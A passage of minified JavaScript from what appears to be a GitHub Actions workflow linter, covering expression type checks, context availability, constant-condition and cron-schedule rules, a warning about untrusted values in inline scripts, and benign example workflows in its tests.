o=ko(r),a=o&&n1(o);if(a){e.push({node:r,path:a});break}r=r.object}}t(s.object,!0),s.type==="index"&&t(s.index,!1);return}s.type==="call"?s.args.forEach(r=>t(r,!1)):s.type==="not"?t(s.operand,!1):s.type==="binary"&&(t(s.left,!1),t(s.right,!1))};return t(n,!1),e}var X=n=>n.toLowerCase();function Z(n){return(0,E.isMap)(n)?n.items:[]}function P(n,e){for(let t of Z(n))if(H(t)===e)return t.value??void 0}function s1(n,e){for(let t of Z(n))if(X(H(t)??"")===e)return t}function Oe(n){return(0,E.isScalar)(n)&&typeof n.value=="string"?n.value:void 0}function ue(n){return n.includes("${{")}function i1(n){let e=[],t=[],s=0;for(;;){let i=n.indexOf("${{",s);if(i<0)break;let r=Gu(n,i+3);if(r.error){if(t.push(r.error),r.end>=n.length&&!n.slice(i+3).includes("}}")||r.end>=n.length)break;e.push({start:i,end:r.end}),s=r.end;continue}e.push({start:i,end:r.end,node:r.node}),s=r.end}return{templates:e,errors:t}}function Wh(n,e){return n.slice(e.start,e.end)}var zu=class{constructor(e,t,s){this.model=e;this.files=t;this.docPath=s;this.base=Uu()}model;files;docPath;diags=[];base;inputsTy=G();secretsTy=Re(A);githubTy=Uu().github;jobs=new Map;emit(e,t,s,i,r,o,a){let c,l;t.exact?(c=t.offsets[Math.min(i,t.value.length)],l=r>i?t.offsets[Math.min(r-1,t.value.length)]+1:c,l<c&&(l=c)):(c=s.range?.[0]??0,l=s.range?.[1]??c),this.diags.push({rule:e,message:o,start:c,end:l,severity:a})}emitNode(e,t,s,i){let r=t.range?.[0]??0;this.diags.push({rule:e,message:s,start:r,end:t.range?.[1]??r,severity:i})}runChecker(e,t,s,i,r){let o=new wo({vars:r.vars,workflowKey:i,hints:r.hints}),a=o.check(s);for(let c of o.diags)this.emit(c.rule,e,t,c.start,c.end,c.message,c.severity);return a}checkTemplates(e,t,s){let i=Bs(e);if(!i||!ue(i.value))return;let{templates:r,errors:o}=i1(i.value);for(let c of o)this.emit("expression-syntax",i,e,c.start,c.end,c.message);let a=[];for(let c of r)a.push({t:c,ty:c.node?this.runChecker(i,e,c.node,t,s):C});return{ms:i,types:a}}checkString(e,t,s,i="string"){if(!e)return;if(!(0,E.isScalar)(e)){if((0,E.isMap)(e))for(let o of e.items)(0,E.isScalar)(o.key)&&this.checkString(o.key,t,s),this.checkString(o.value,t,s);else if((0,E.isSeq)(e))for(let o of e.items)this.checkString(o,t,s);return}if(i!=="string"&&i!=="script"){this.checkTyped(e,t,s,i);return}let r=this.checkTemplates(e,t,s);if(r){if(i==="script"){for(let{t:o}of r.types)if(o.node)for(let a of Bh(o.node))this.emit("untrusted-input",r.ms,e,a.node.start,a.node.end,`"${a.path}" is potentially untrusted. avoid using it directly in inline scripts. instead, pass it through an environment variable. see https://docs.github.com/en/actions/reference/security/secure-use#good-practices-for-mitigating-script-injection-attacks for more details`)}for(let{t:o,ty:a}of r.types)(a.k==="object"||a.k==="array"||a.k==="null")&&this.emit("expression-type",r.ms,e,o.start,o.end,`object, array, and null values should not be evaluated in template with \${{ }} but evaluating the value of type ${W(a)}`,"warning")}}single(e,t){if(t.length!==1)return;let s=e.value,i=s.length-s.trimStart().length,r=s.trimEnd().length;return t[0].t.start===i&&t[0].t.end===r?t[0]:void 0}checkTyped(e,t,s,i,r){if(typeof e.value!="string")return;let o=e.value.trim(),a={bool:'boolean literal "true" or "false"',int:"integer literal",float:"float number literal",object:`mapping value for "${r??"env"}" section`,array:"sequence value"};if(!ue(o)){(!((!(e.type==="QUOTE_SINGLE"||e.type==="QUOTE_DOUBLE")||i==="object"||i==="array")&&(i==="bool"&&/^(true|false)$/i.test(o)||(i==="int"||i==="float")&&o!==""&&!Number.isNaN(Number(o))||i==="object"||i==="array"))||i==="object"&&r==="env")&&this.emitNode("expression-placement",e,`expecting a single \${{...}} expression or ${a[i]}, but found plain text node`);return}let c=this.checkTemplates(e,t,s);if(!c||c.types.length===0)return;let l=this.single(c.ms,c.types);if(!l){this.emitNode("expression-placement",e,`expecting a single \${{...}} expression or ${a[i]}, but found plain text node`);return}let u=l.ty,p=d=>this.emit("expression-type",c.ms,e,l.t.start,l.t.end,d);return i==="bool"&&u.k!=="bool"&&u.k!=="any"&&p(`type of expression must be bool but found type ${W(u)}`),(i==="int"||i==="float")&&u.k!=="number"&&u.k!=="any"&&u.k!=="string"&&p(`type of expression at "${r??t}" must be number but found type ${W(u)}`),i==="object"&&u.k!=="object"&&u.k!=="any"&&p(`type of expression at "${r}" must be object but found type ${W(u)}`),i==="array"&&u.k!=="array"&&u.k!=="any"&&p(`type of expression at "${r}" must be array but found type ${W(u)}`),u}checkIf(e,t,s){if(!e||!(0,E.isScalar)(e))return;if(typeof e.value!="string"){if(e.value===null&&e.source==="")return;this.emitNode("constant-condition",e,`constant expression "${String(e.source??e.value)}" in condition. remove the if: section`,"warning");return}let i=Bs(e),r=i.value;if(ue(r)){let a=this.checkTemplates(e,t,s);if(!a||a.types.length===0)return;let c=a.types[0].t;if(!(a.types.length===1&&c.start===0&&c.end===r.length)){this.emitNode("if-always-true",e,`if: condition ${JSON.stringify(r)} is always evaluated to true because extra characters are around \${{ }}`);return}c.node&&zt(c.node)&&this.emitNode("constant-condition",e,`constant expression "${Wh(r,c.node)}" in condition. remove the if: section`,"warning");return}if(r.trim()==="")return;let o=Hh(r);if(o.error){this.emit("expression-syntax",i,e,o.error.start,o.error.end,o.error.message);return}this.runChecker(i,e,o.node,t,s),zt(o.node)&&this.emitNode("constant-condition",e,`constant expression "${Wh(r,o.node)}" in condition. remove the if: section`,"warning")}checkEnv(e,t,s){if(e){if((0,E.isScalar)(e)){if(e.value===null)return;this.checkTyped(e,t,s,"object","env");return}this.checkString(e,t,s)}}checkConcurrency(e,t,s){if(e)if((0,E.isMap)(e))for(let i of e.items)H(i)==="cancel-in-progress"&&(0,E.isScalar)(i.value)?this.checkTyped(i.value,t,s,"bool"):this.checkString(i.value,t,s);else this.checkString(e,t,s)}checkNoExpression(e,t){let s=Oe(e);s!==void 0&&ue(s)&&this.emitNode("expression-placement",e,`expressions are not evaluated in ${t}: GitHub reads "${s}" as it is written`,"warning")}readLocalYaml(e,t){if(!this.docPath)return;let s=xo.dirname(this.docPath),i=/^(.*?)[\\/]\.github[\\/]/.exec(this.docPath);i&&(s=i[1]);for(let r of t){let o=xo.join(s,e,r),a=this.files.readFile(o);if(a!==void 0)try{return(0,E.parseDocument)(a).toJS()}catch{return}}}actionOutputs(e){if(!e)return Re(A);if(e.startsWith("./")&&!ue(e)){let t=this.readLocalYaml(e,["action.yml","action.yaml"]);if(t&&typeof t=="object"){let s=G();if(t.outputs&&typeof t.outputs=="object")for(let i of Object.keys(t.outputs))s.props.set(X(i),A);return s}}return Re(A)}callOutputs(e){if(e&&e.startsWith("./")&&!ue(e)){let t=this.readLocalYaml(e,[""]),s=t&&typeof t=="object"?t.on:void 0,i=s&&typeof s=="object"&&!Array.isArray(s)?s.workflow_call:void 0;if(i!==void 0){let r=G(),o=i&&typeof i=="object"?i.outputs:void 0;if(o&&typeof o=="object")for(let a of Object.keys(o))r.props.set(X(a),A);return r}}return Re(A)}readEvents(){let e=this.model.root,t=P(e,"on"),s=!1,i=!1,r=!0,o=G();if((0,E.isMap)(t))for(let a of t.items){let c=H(a);if(c==="workflow_call"){s=!0;for(let u of Z(P(a.value,"inputs"))){let p=H(u);if(p===void 0)continue;let d=Oe(P(u.value,"type"));o.props.set(X(p),d==="boolean"?J:d==="number"?ge:d==="string"?A:C)}let l=s1(a.value,"secrets");if(l){let u=G({github_token:A,actions_step_debug:A,actions_runner_debug:A});for(let p of Z(l.value)){let d=H(p);d!==void 0&&u.props.set(X(d),A)}(l.value===null||(0,E.isMap)(l.value)||(0,E.isScalar)(l.value)&&l.value.value===null)&&(this.secretsTy=u)}}else if(c==="workflow_dispatch"){i=!0;let l=G();for(let p of Z(P(a.value,"inputs"))){let d=H(p);if(d===void 0)continue;let f=Oe(P(p.value,"type")),m=f==="boolean"?J:f==="number"?ge:f==="string"||f==="choice"||f==="environment"?A:C,g=o.props.get(X(d));o.props.set(X(d),g?Ee(g,m):m),l.props.set(X(d),A)}let u=this.githubTy.props.get("event");this.githubTy.props.set("event",{...u,props:new Map([...u.props,["inputs",l]])})}}else if((0,E.isScalar)(t)||(0,E.isSeq)(t)){let a=(0,E.isSeq)(t)?t.items.map(c=>Oe(c)):[Oe(t)];if(s=a.includes("workflow_call"),i=a.includes("workflow_dispatch"),i){let c=this.githubTy.props.get("event");this.githubTy.props.set("event",{...c,props:new Map([...c.props,["inputs",Re(A)]])})}s&&(r=!1)}else r=!1;this.inputsTy=r?o:xe()}readJobs(){let e=P(this.model.root,"jobs");for(let t of Z(e)){let s=H(t);if(s===void 0||!(0,E.isMap)(t.value))continue;let i=t.value,r=Oe(P(i,"uses")),o;if(r!==void 0)o=this.callOutputs(r);else{let a=P(i,"outputs");if((0,E.isMap)(a)){let c=G();for(let l of a.items){let u=H(l);u!==void 0&&c.props.set(X(u),A)}o=c}else a===void 0||(0,E.isScalar)(a)&&a.value===null?o=G():o=Re(A)}this.jobs.set(X(s),{id:s,map:i,outputs:o})}}scope(e={},t){return{vars:{...this.base,github:this.githubTy,inputs:this.inputsTy,secrets:this.secretsTy,...e},hints:t??new Map}}guessYaml(e,t,s){if((0,E.isScalar)(e)){let i=e.value;if(typeof i=="string"){if(!ue(i))return A;if(!s)return C;let r=this.checkTemplates(e,t,s),o=r&&this.single(r.ms,r.types);return o?o.ty:A}return typeof i=="number"?ge:typeof i=="boolean"?J:i===null?Hs:C}if((0,E.isMap)(e)){let i=G();for(let r of e.items){let o=H(r);if(o===void 0)return xe();i.props.set(X(o),this.guessYaml(r.value,t,s))}return i}return(0,E.isSeq)(e)?e.items.length===0?{k:"array",elem:C}:{k:"array",elem:e.items.map(i=>this.guessYaml(i,t,s)).reduce(Ee)}:C}matrixType(e,t){let s="jobs.<job_id>.strategy",i=P(e,"matrix");if(!i)return G();if((0,E.isScalar)(i)){let o=typeof i.value=="string"?this.checkTyped(i,s,t,"object","matrix"):void 0;if(o&&o.k==="object"&&o.props.size>0){let a={...o,props:new Map(o.props),strict:!1},c=a.props.get("include");if(a.props.delete("include"),a.props.delete("exclude"),c&&c.k==="array"&&c.elem.k==="object")for(let[l,u]of c.elem.props)a.props.set(l,a.props.has(l)?Ee(a.props.get(l),u):u);return a}return xe()}if(!(0,E.isMap)(i))return xe();let r=G();for(let o of i.items){let a=H(o);if(a===void 0){r.strict=!1;continue}let c=o.value;if(a==="include"||a==="exclude"){if((0,E.isSeq)(c))for(let l of c.items)if((0,E.isMap)(l))for(let u of l.items){let p=this.guessYaml(u.value,s,t);if(a==="include"){let d=H(u);if(d===void 0)continue;let f=r.props.get(X(d));r.props.set(X(d),f?Ee(f,p):p)}}else(0,E.isScalar)(l)&&typeof l.value=="string"&&ue(l.value)&&this.checkTyped(l,s,t,"object",`matrix combination at element of ${a} section`),a==="include"&&(r.strict=!1);else(0,E.isScalar)(c)&&typeof c.value=="string"&&ue(c.value)&&this.checkTyped(c,s,t,"array",a),a==="include"&&(r.strict=!1);continue}if((0,E.isSeq)(c))r.props.set(X(a),c.items.length?c.items.map(l=>this.guessYaml(l,s,t)).reduce(Ee):C);else if((0,E.isScalar)(c)&&typeof c.value=="string"&&ue(c.value)){let l=this.checkTyped(c,s,t,"array","matrix row");r.props.set(X(a),l&&l.k==="array"?l.elem:C)}else r.props.set(X(a),C)}return r}run(){let e=this.model.root;if(!e||this.model.kind!=="workflow")return;this.readEvents(),this.readJobs();let t=this.scope();this.checkString(P(e,"name"),void 0,t),this.checkString(P(e,"run-name"),"run-name",t),this.checkEnv(P(e,"env"),"env",t),this.checkConcurrency(P(e,"concurrency"),"concurrency",t);let s=P(P(e,"defaults"),"run");for(let r of Z(s))this.checkString(r.value,H(r)==="shell"?"defaults.run.shell":void 0,t);let i=P(e,"on");for(let r of Z(i)){let o=H(r);if(o==="workflow_call"){let a=G();for(let u of Z(P(r.value,"inputs"))){let p=H(u),d=Oe(P(u.value,"type")),f=d==="boolean"?J:d==="number"?ge:d==="string"?A:C;for(let m of Z(u.value))if(H(m)==="default"){let g=this.scope({inputs:a}),h=m.value;if((0,E.isScalar)(h)&&typeof h.value=="string"&&ue(h.value)){let y=this.checkTemplates(h,"on.workflow_call.inputs.<inputs_id>.default",g),w=y&&this.single(y.ms,y.types);w&&p!==void 0&&(f.k==="any"||w.ty.k==="any"||(f.k==="bool"?w.ty.k==="bool":f.k==="number"?w.ty.k==="number":w.ty.k==="string"||w.ty.k==="number")||this.emit("expression-type",y.ms,h,w.t.start,w.t.end,`type of input "${p}" must be ${W(f)} but found type ${W(w.ty)}`))}}else H(m)==="required"&&(0,E.isScalar)(m.value)?this.checkTyped(m.value,void 0,t,"bool"):this.checkString(m.value,void 0,t);p!==void 0&&a.props.set(X(p),f)}for(let u of Z(P(r.value,"secrets")))for(let p of Z(u.value))H(p)==="required"&&(0,E.isScalar)(p.value)?this.checkTyped(p.value,void 0,t,"bool"):this.checkString(p.value,void 0,t);let c=G();for(let[u,p]of this.jobs)c.props.set(u,G({outputs:Oe(P(p.map,"uses"))!==void 0?xe():p.outputs,result:A}));let l=this.scope({jobs:c});for(let u of Z(P(r.value,"outputs")))for(let p of Z(u.value))this.checkString(p.value,H(p)==="value"?"on.workflow_call.outputs.<output_id>.value":void 0,H(p)==="value"?l:t)}else if(o==="workflow_dispatch")for(let a of Z(P(r.value,"inputs")))for(let c of Z(a.value))H(c)==="required"&&(0,E.isScalar)(c.value)?this.checkTyped(c.value,void 0,t,"bool"):this.checkString(c.value,void 0,t);else this.checkString(r.value,void 0,t)}for(let r of Z(P(e,"jobs")))(0,E.isMap)(r.value)&&this.checkJob(H(r)??"",r.value)}checkJob(e,t){let s=P(t,"needs"),i=((0,E.isSeq)(s)?s.items.map(v=>Oe(v)):[Oe(s)]).filter(v=>!!v).map(X),r=G();for(let v of i){let O=this.jobs.get(v);O&&v!==X(e)&&r.props.set(v,G({outputs:O.outputs,result:A}))}let o=new Map;o.set(r,v=>this.jobs.has(X(v))?`job "${v}" is not listed in "needs" of job "${e}"; add it to "needs" to read its outputs`:void 0);let a=(v={})=>this.scope({needs:r,...v},o),c=a(),l=P(t,"strategy"),u=this.matrixType(l,c);P(l,"matrix")||o.set(u,()=>`job "${e}" has no matrix`);let p=a({matrix:u}),d="jobs.<job_id>.strategy";for(let v of Z(l)){let O=H(v);O==="fail-fast"&&(0,E.isScalar)(v.value)?this.checkTyped(v.value,d,c,"bool"):O==="max-parallel"&&(0,E.isScalar)(v.value)&&this.checkTyped(v.value,d,c,"int","max-parallel")}let f=P(t,"steps"),m=[];(0,E.isSeq)(f)&&f.items.forEach((v,O)=>{let R=Oe(P(v,"id"));R!==void 0&&!ue(R)&&m.push({id:X(R),index:O})});for(let v of t.items){let O=H(v),R=v.value;switch(O){case"name":this.checkString(R,"jobs.<job_id>.name",p);break;case"needs":this.checkString(R,void 0,p);break;case"runs-on":if((0,E.isScalar)(R)&&typeof R.value=="string"&&ue(R.value)){let M=this.checkTemplates(R,"jobs.<job_id>.runs-on",p),S=M&&this.single(M.ms,M.types);if(S&&S.ty.k!=="string"&&S.ty.k!=="array"&&S.ty.k!=="any")this.emit("expression-type",M.ms,R,S.t.start,S.t.end,`type of expression at "runs-on" must be string or array but found type "${W(S.ty)}"`);else if(M&&!S)for(let{t:q,ty:re}of M.types)(re.k==="object"||re.k==="array"||re.k==="null")&&this.emit("expression-type",M.ms,R,q.start,q.end,`object, array, and null values should not be evaluated in template with \${{ }} but evaluating the value of type ${W(re)}`,"warning")}else this.checkString(R,"jobs.<job_id>.runs-on",p);break;case"concurrency":this.checkConcurrency(R,"jobs.<job_id>.concurrency",p);break;case"env":this.checkEnv(R,"jobs.<job_id>.env",p);break;case"defaults":this.checkString(P(R,"run"),"jobs.<job_id>.defaults.run",p);break;case"if":this.checkIf(R,"jobs.<job_id>.if",a());break;case"continue-on-error":(0,E.isScalar)(R)&&this.checkTyped(R,"jobs.<job_id>.continue-on-error",p,"bool");break;case"timeout-minutes":(0,E.isScalar)(R)&&this.checkTyped(R,"jobs.<job_id>.timeout-minutes",p,"float","timeout-minutes");break;case"container":this.checkContainer(R,"jobs.<job_id>.container","jobs.<job_id>.container",p);break;case"services":if((0,E.isScalar)(R))typeof R.value=="string"&&ue(R.value)&&this.checkTyped(R,"jobs.<job_id>.services",p,"object","services");else for(let M of Z(R))this.checkContainer(M.value,"jobs.<job_id>.services","jobs.<job_id>.services.<service_id>",p);break;case"uses":this.checkNoExpression(R,'the "uses" of a job');break;case"with":this.checkString(R,"jobs.<job_id>.with.<with_id>",p);break;case"secrets":this.checkString(R,"jobs.<job_id>.secrets.<secrets_id>",p);break;case"snapshot":for(let M of Z(R))H(M)==="if"?this.checkIf(M.value,"jobs.<job_id>.snapshot.if",p):this.checkString(M.value,void 0,p);(0,E.isScalar)(R)&&this.checkString(R,void 0,p);break}}let g=G(),h=new Map(o);(0,E.isSeq)(f)&&f.items.forEach((v,O)=>{let R=G(new Map(g.props));R.strict=g.strict,h.set(R,q=>{let re=m.find(lt=>lt.id===X(q));if(re){if(re.index===O)return`step "${q}" is the current step; its outputs are not available until it has run`;if(re.index>O)return`step "${q}" is defined later in this job; the steps context only has steps that ran before this one`}});let M={vars:{...p.vars,steps:R},hints:h};this.checkStep(v,M);let S=Oe(P(v,"id"));S!==void 0&&(ue(S)?g.strict=!1:g.props.set(X(S),G({outputs:this.stepOutputs(v),conclusion:A,outcome:A})))});let y={vars:{...p.vars,steps:g},hints:h},w=P(t,"environment");if((0,E.isMap)(w))for(let v of w.items)H(v)==="url"?this.checkString(v.value,"jobs.<job_id>.environment.url",y):this.checkString(v.value,"jobs.<job_id>.environment",p);else this.checkString(w,"jobs.<job_id>.environment",p);let k=P(t,"outputs");for(let v of Z(k))this.checkString(v.value,"jobs.<job_id>.outputs.<output_id>",y)}stepOutputs(e){let t=Oe(P(e,"uses"));return t===void 0?Re(A):/^actions\/github-script@/i.test(t)?xe():this.actionOutputs(t)}checkContainer(e,t,s,i){if(e){if(!(0,E.isMap)(e)){this.checkString(e,t,i);return}for(let r of e.items){let o=H(r),a=r.value;o==="credentials"?(0,E.isScalar)(a)?typeof a.value=="string"&&ue(a.value)&&this.checkTyped(a,`${s}.credentials`,i,"object","credentials"):this.checkString(a,`${s}.credentials`,i):o==="env"?(0,E.isScalar)(a)?a.value!==null&&this.checkTyped(a,`${s}.env.<env_id>`,i,"object","env"):this.checkString(a,`${s}.env.<env_id>`,i):this.checkString(a,t,i)}}}checkStep(e,t){if(!(0,E.isMap)(e))return;let s=Oe(P(e,"uses"));for(let i of e.items){let r=H(i),o=i.value;switch(r){case"id":this.checkString(o,"jobs.<job_id>.steps.id",t);break;case"name":this.checkString(o,"jobs.<job_id>.steps.name",t);break;case"if":this.checkIf(o,"jobs.<job_id>.steps.if",t);break;case"run":this.checkString(o,"jobs.<job_id>.steps.run",t,"script");break;case"shell":this.checkString(o,"jobs.<job_id>.steps.shell",t);break;case"working-directory":this.checkString(o,"jobs.<job_id>.steps.working-directory",t);break;case"uses":this.checkNoExpression(o,'the "uses" of a step');break;case"with":if((0,E.isMap)(o))for(let a of o.items){let c=H(a)==="script"&&s!==void 0&&/^actions\/github-script@/i.test(s);this.checkString(a.value,"jobs.<job_id>.steps.with",t,c?"script":"string")}else this.checkString(o,"jobs.<job_id>.steps.with",t);break;case"env":this.checkEnv(o,"jobs.<job_id>.steps.env",t);break;case"continue-on-error":(0,E.isScalar)(o)&&this.checkTyped(o,"jobs.<job_id>.steps.continue-on-error",t,"bool");break;case"timeout-minutes":(0,E.isScalar)(o)&&this.checkTyped(o,"jobs.<job_id>.steps.timeout-minutes",t,"float","timeout-minutes");break}}}};function Gh(n,e,t){return n.memoize(`wfx:expr:${t??""}`,()=>{let s=new zu(n,e,t);return s.run(),{diags:s.diags}})}function pe(n,e){if(n.model.kind!=="workflow")return;let{diags:t}=Gh(n.model,n.files,n.path);for(let s of t)s.rule===e&&n.report({message:s.message,range:n.model.lines.range(s.start,Math.max(s.end,s.start)),severity:s.severity})}var r1={id:"constant-condition",language:"workflow",severity:"warning",compat:{actionlint:"if-cond"},docs:{summary:"An `if:` condition whose value is known without running the workflow, such as `true` or `1 == 1`.",why:"A constant condition is usually a leftover from debugging: the job or step always (or never) runs, and the `if:` only hides that.",bad:`on: push
+jobs:
+  build:
+    runs-on: ubuntu-latest
+    steps:
+      - run: echo hi
+        if: false
+`,good:`on: push
+jobs:
+  build:
+    runs-on: ubuntu-latest
+    steps:
+      - run: echo hi
+        if: github.event_name == 'push'
+`},check(n){pe(n,"constant-condition")},tests:[{name:"constant expressions",input:`on: push
+jobs:
+  a:
+    runs-on: ubuntu-latest
+    if: \${{ true && !null }}
+    steps:
+      - run: echo
+        if: contains('abc', 'b')
+`,expect:[{line:5,col:9,message:'constant expression "true && !null"'},{line:8,col:13}]},{name:"conditions that depend on the run",input:`on: push
+jobs:
+  a:
+    runs-on: ubuntu-latest
+    if: always()
+    steps:
+      - run: echo
+        if: \${{ github.ref == 'x' }}
+`,expect:[]}]},Vh=r1;var o1={id:"context-availability",language:"workflow",severity:"error",compat:{actionlint:"expression"},docs:{summary:"A context (`env`, `runner`, `secrets`, `steps`, ...) or a special function (`success()`, `hashFiles()`, ...) used where GitHub does not provide it.",why:'Each workflow key sees only some contexts (GitHub\'s "context availability" table): `env` is not available in `jobs.<id>.if` or `runs-on`, `runner` only exists once a job runs, `always()` only works in `if:`. GitHub fails the run when it meets one.',bad:`on: push
+jobs:
+  build:
+    runs-on: \${{ env.RUNNER }}
+    steps:
+      - run: echo hi
+`,good:`on: push
+jobs:
+  build:
+    runs-on: \${{ vars.RUNNER }}
+    steps:
+      - run: echo hi
+`},check(n){pe(n,"context-availability")},tests:[{name:"env in a job-level if",input:`on: push
+jobs:
+  a:
+    runs-on: ubuntu-latest
+    if: env.DEPLOY == 'true'
+    steps:
+      - run: echo
+`,expect:[{line:5,col:9,message:'context "env" is not allowed here'}]},{name:"runner in job env, secrets in step if",input:`on: push
+jobs:
+  a:
+    runs-on: ubuntu-latest
+    env:
+      T: \${{ runner.temp }}
+    steps:
+      - run: echo
+        if: \${{ secrets.TOKEN != '' }}
+`,expect:[{line:6,col:14,message:'"runner"'},{line:9,col:17,message:'"secrets"'}]},{name:"special functions outside if",input:`on: push
+jobs:
+  a:
+    runs-on: ubuntu-latest
+    env:
+      H: \${{ hashFiles('**/x') }}
+    steps:
+      - run: echo \${{ always() }}
+`,expect:[{line:6,message:'calling function "hashFiles" is not allowed here'},{line:8,message:'calling function "always" is not allowed here'}]},{name:"no context in step shell",input:`on: push
+jobs:
+  a:
+    runs-on: ubuntu-latest
+    steps:
+      - run: echo
+        shell: \${{ env.SHELL }}
+`,expect:[{line:7,message:"no context is available here"}]},{name:"contexts where they are available",input:`on: push
+env:
+  A: \${{ secrets.X }}
+jobs:
+  a:
+    runs-on: ubuntu-latest
+    if: \${{ success() && github.ref == 'x' }}
+    steps:
+      - run: echo \${{ runner.os }} \${{ env.A }} \${{ hashFiles('x') }}
+        if: always()
+        env:
+          B: \${{ job.status }}
+`,expect:[]}]},zh=o1;var ot=U(ke());var a1=["JAN","FEB","MAR","APR","MAY","JUN","JUL","AUG","SEP","OCT","NOV","DEC"],c1=["SUN","MON","TUE","WED","THU","FRI","SAT"],l1=[{name:"minute",min:0,max:59},{name:"hour",min:0,max:23},{name:"day of month",min:1,max:31},{name:"month",min:1,max:12,names:a1,namesBase:1},{name:"day of week",min:0,max:7,names:c1,namesBase:0}];function u1(n,e){let t=new Set,s=i=>{if(/^\d+$/.test(i))return Number(i);let r=e.names?.indexOf(i.toUpperCase())??-1;return r>=0?r+(e.namesBase??0):void 0};for(let i of n.split(",")){let r=/^([^/]+)(?:\/(\d+))?$/.exec(i);if(!r)return`invalid ${e.name} field ${JSON.stringify(i)}`;let o=r[2]!==void 0?Number(r[2]):1;if(o<1)return`step of ${e.name} field must be at least 1`;let a,c;if(r[1]==="*")a=e.min,c=e.max===7?6:e.max;else{let l=r[1].split("-");if(l.length>2)return`invalid range ${JSON.stringify(r[1])} in ${e.name} field`;if(a=s(l[0]),c=l.length===2?s(l[1]):r[2]!==void 0?e.max===7?6:e.max:a,a===void 0||c===void 0)return`invalid value ${JSON.stringify(r[1])} in ${e.name} field`}if(a<e.min||c>e.max||a>e.max||c<e.min)return`value ${JSON.stringify(r[1])} is out of range ${e.min}-${e.max} in ${e.name} field`;if(a>c)return`range ${JSON.stringify(r[1])} in ${e.name} field is reversed`;for(let l=a;l<=c;l+=o)t.add(l)}return[...t].sort((i,r)=>i-r)}function p1(n,e){let t=[];for(let i of e)for(let r of n)t.push(i*60+r);t.sort((i,r)=>i-r);let s=1/0;for(let i=1;i<t.length;i++)s=Math.min(s,t[i]-t[i-1]);return t.length&&e.length===24&&(s=Math.min(s,t[0]+1440-t[t.length-1])),s}function d1(n){try{return new Intl.DateTimeFormat("en-US",{timeZone:n}),n.includes("/")||/^(UTC|GMT|Etc\/.*)$/i.test(n)}catch{return!1}}var f1={id:"cron-schedule",language:"workflow",severity:"error",compat:{actionlint:"events"},docs:{summary:"`on.schedule` must be a list of `cron:` entries with five valid fields (minute hour day month weekday; ranges, steps, lists and JAN-DEC/SUN-SAT names) and an optional IANA `timezone`. Schedules more frequent than every 5 minutes are reported as a warning.",why:"GitHub rejects an invalid cron expression, and silently runs a too-frequent schedule only every 5 minutes at best. `on: schedule` without a cron never runs.",bad:`on:
+  schedule:
+    - cron: '0 0 * * 8'
+    - cron: '*/2 * * * *'
+jobs:
+  nightly:
+    runs-on: ubuntu-latest
+    steps:
+      - run: make nightly
+`,good:`on:
+  schedule:
+    - cron: '0 0 * * 0'
+    - cron: '*/5 * * * *'
+jobs:
+  nightly:
+    runs-on: ubuntu-latest
+    steps:
+      - run: make nightly
+`},check({model:n,report:e}){for(let t of ne(n).events)if(t.name==="schedule"){if(!t.config||(0,ot.isScalar)(t.config)&&t.config.value===null||t.node===t.config){(0,ot.isSeq)(t.config)||e({message:"schedule event must be configured with a list of `cron:` entries",range:n.rangeOf(t.node)});continue}if((0,ot.isSeq)(t.config))for(let s of t.config.items){let i=L(n,s);if(!(0,ot.isMap)(i))continue;let r=z(n,i),o=L(n,r.get("cron")?.value),a=_(o);if(a!==void 0&&(0,ot.isScalar)(o)&&!a.includes("${{")&&a.trim()!==""){let u=n.rangeOf(o),p=a.trim().split(/\s+/);if(p.length!==5)e({message:`invalid CRON format ${JSON.stringify(a)} in schedule event: expected 5 fields (minute hour day-of-month month day-of-week) but found ${p.length}`,range:u});else{let d=p.map((m,g)=>u1(m,l1[g])),f=d.find(m=>typeof m=="string");if(f)e({message:`invalid CRON format ${JSON.stringify(a)} in schedule event: ${f}`,range:u});else{let m=p1(d[0],d[1]);m<5&&e({message:`scheduled job runs too frequently. it runs once per ${m*60} seconds. the shortest interval is once every 5 minutes`,range:u,severity:"warning"})}}}let c=L(n,r.get("timezone")?.value),l=_(c);l&&(0,ot.isScalar)(c)&&!l.includes("${{")&&!d1(l)&&e({message:`invalid timezone ${JSON.stringify(l)} in schedule event. it must be a valid IANA timezone name such as "Europe/Berlin"`,range:n.rangeOf(c)})}}},tests:[{name:"bad fields, field count and timezone",input:`on:
+  schedule:
+    - cron: '0 0 * * 8'
+    - cron: '0 0 * *'
+    - cron: '60 * * * *'
+    - cron: '0 12 * JAN-DEC/2 MON-FRI'
+      timezone: Not/A/Timezone
+    - cron: '0 5-1 * * *'
+jobs:
+  a:
+    runs-on: ubuntu-latest
+    steps:
+      - run: echo
+`,expect:[{line:3,col:13,message:"out of range 0-7 in day of week field"},{line:4,col:13,message:"expected 5 fields"},{line:5,col:13,message:"out of range 0-59"},{line:7,col:17,message:'invalid timezone "Not/A/Timezone"'},{line:8,col:13,message:"reversed"}]},{name:"too frequent",input:`on:
+  schedule:
+    - cron: '*/4 * * * *'
+    - cron: '0,2 3 * * *'
+jobs:
+  a:
+    runs-on: ubuntu-latest
+    steps:
+      - run: echo
+`,expect:[{line:3,col:13,message:"runs once per 240 seconds",severity:"warning"},{line:4,col:13,message:"once per 120 seconds",severity:"warning"}]},{name:"schedule without cron",input:`on: [push, schedule]
+jobs:
+  a:
+    runs-on: ubuntu-latest
+    steps:
+      - run: echo
+`,expect:[{line:1,col:12,message:"schedule event must be configured"}]},{name:"valid schedules",input:`on:
+  schedule:
+    - cron: '*/5 * * * *'
+    - cron: '30 5,17 * * 1-5'
+    - cron: '0 0 1 */3 SUN'
+    - cron: '59 23 31 DEC 7'
+      timezone: Europe/Berlin
+    - cron: '0 0 * * *'
+      timezone: UTC
+jobs:
+  a:
+    runs-on: ubuntu-latest
+    steps:
+      - run: echo
+`,expect:[]}]},Jh=f1;var de=U(ke());var Kh={source:"@actions/workflow-parser@0.3.61 dist/workflow-v1.0.min.json (MIT)",version:"workflow-v1.0",definitions:{"workflow-root":{description:"A workflow file.",mapping:{properties:{on:"on",name:"workflow-name",description:"workflow-description","run-name":"run-name",defaults:"workflow-defaults",env:"workflow-env",permissions:"permissions",concurrency:"workflow-concurrency",jobs:{type:"jobs",required:!0}}}},"workflow-root-strict":{description:"Workflow file with strict validation",mapping:{properties:{on:{type:"on-strict",required:!0},name:"workflow-name",description:"workflow-description","run-name":"run-name",defaults:"workflow-defaults",env:"workflow-env",permissions:"permissions",concurrency:"workflow-concurrency",jobs:{type:"jobs",required:!0}}}},"workflow-name":{description:`The name of the workflow that GitHub displays on your repository's 'Actions' tab.
+
